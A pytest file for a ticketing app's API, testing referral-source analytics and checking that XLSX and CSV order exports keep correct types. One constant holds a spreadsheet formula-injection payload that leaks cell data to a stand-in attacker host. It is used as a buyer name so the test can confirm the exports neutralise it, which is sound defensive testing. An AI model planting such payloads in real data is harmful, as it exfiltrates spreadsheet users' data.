"""Issue 18 through the JSON API on a running app: the source of a page view and of a hold reaches the paid
order (`GET /events/{id}/analytics`), and the exports open in openpyxl and pandas with the right types, a
buyer's `=HYPERLINK(...)` name inert in both CSV and XLSX."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal

import httpx
import openpyxl
import pandas as pd
import pytest

from tests.api.test_api import EVENT, assert_error, organizer

PHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Mobile/15E148 Safari/604.1"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def api(app_url: str):  # type: ignore[no-untyped-def]
    with httpx.Client(base_url=f"{app_url}/api/v1", timeout=20) as client:
        yield client


@pytest.fixture
def sold(api: httpx.Client, app_url: str) -> tuple[dict, dict[str, str]]:  # type: ignore[type-arg]
    """A published event viewed through ?ref=instagram (twice by one phone, once by another) and bought once
    through it (first touch: the flyer), 2 x 20.00 by a buyer whose name is a formula."""
    auth = organizer(api)
    event = api.post("/events", json=EVENT, headers=auth).json()
    tier = api.post(f"/events/{event['id']}/tiers", headers=auth,
                    json={"name": "General", "price_minor": 2000, "capacity": 100}).json()
    assert api.post(f"/events/{event['id']}/publish", headers=auth).status_code == 200
    for agent in (PHONE, PHONE, PHONE + " other"):
        assert httpx.get(f"{app_url}/e/{event['slug']}", params={"ref": "Instagram"},
                         headers={"User-Agent": agent}).status_code == 200
    held = api.post(f"/events/{event['id']}/reservations", json={
        "lines": [{"tier_id": tier["id"], "quantity": 2}], "buyer": {"email": "e@example.com", "name": EVIL},
        "ref": "instagram", "first_ref": "flyer"})
    assert held.status_code == 201, held.text
    assert api.post(f"/demo-payments/{held.json()['id']}/pay").status_code == 200
    return event, auth


def test_the_sale_counts_under_its_source_with_its_first_touch(api: httpx.Client, sold) -> None:  # type: ignore[no-untyped-def]
    event, auth = sold
    body = api.get(f"/events/{event['id']}/analytics", headers=auth).json()
    sources = {row["source"]: row for row in body["sources"]}
    instagram = sources["instagram"]
    assert (instagram["views"], instagram["visitors"], instagram["holds"]) == (3, 2, 1)
    assert (instagram["orders"], instagram["tickets"], instagram["revenue_minor"]) == (1, 2, 4000)
    assert instagram["conversion"] == 0.5
    assert (sources["flyer"]["first_touch_orders"], sources["flyer"]["first_touch_revenue_minor"]) == (1, 4000)
    assert body["funnel"]["orders"] == 1 and body["funnel"]["views"] == 3
    [velocity] = body["velocity"]
    assert (velocity["sold"], velocity["last_24h_tickets"], velocity["per_hour_24h"]) == (2, 2, round(2 / 24, 3))
    assert body["forecast"] is None and body["suggestions"] == [] and body["arrivals"] == []
    assert_error(api.get(f"/events/{event['id']}/analytics", headers=organizer(api)), 404)


def test_exports_have_types_and_inert_formulas(api: httpx.Client, sold) -> None:  # type: ignore[no-untyped-def]
    event, auth = sold
    response = api.get(f"/events/{event['id']}/orders.xlsx", headers=auth)
    assert response.status_code == 200 and "spreadsheetml" in response.headers["content-type"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    header, first = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert header[:4] == ("order_id", "created_at", "buyer_name", "buyer_email") and len(rows) == 3
    assert isinstance(first["created_at"], datetime) and first["price_minor"] == 2000
    assert first["price"] == 20 and first["currency"] == "EUR" and first["checked_in"] is False
    assert first["buyer_name"] == "'" + EVIL  # text, shown as typed, never evaluated
    name_cell = sheet.cell(row=2, column=3)
    assert name_cell.data_type == "s"
    frame = pd.read_excel(io.BytesIO(response.content))
    assert frame["price"].dtype.kind in "if" and frame["price_minor"].dtype.kind == "i"  # numbers, not text
    assert frame["created_at"].dtype.kind == "M" and frame["buyer_name"][0].startswith("'=")

    attendees = list(csv.DictReader(io.StringIO(api.get(f"/events/{event['id']}/attendees.csv", headers=auth).text)))
    assert len(attendees) == 2 and all(row["buyer_name"] == "'" + EVIL for row in attendees)
    assert attendees[0]["checked_in"] == "no"
    checkins = openpyxl.load_workbook(io.BytesIO(api.get(f"/events/{event['id']}/checkins.xlsx", headers=auth)
                                                 .content)).active
    assert [c.value for c in checkins[1]][:4] == ["ticket_id", "attendee_name", "tier", "scanned_at"]
    sources = pd.read_csv(io.StringIO(api.get(f"/events/{event['id']}/sources.csv", headers=auth).text))
    instagram = sources[sources["source"] == "instagram"].iloc[0]
    assert (instagram["orders"], instagram["revenue_minor"], Decimal(str(instagram["revenue"]))) == (1, 4000, 40)
